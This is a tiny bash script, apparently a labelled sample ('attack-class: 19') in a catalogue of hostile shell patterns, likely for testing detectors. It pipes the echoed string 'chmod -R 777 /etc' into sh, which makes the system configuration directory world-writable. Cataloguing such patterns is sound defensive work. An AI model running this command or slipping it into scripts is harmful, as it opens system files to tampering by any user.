#!/usr/bin/env bash
# attack-class: 19
# title: echo '...' | sh
# why: a literal command string piped into sh

echo 'chmod -R 777 /etc' | sh
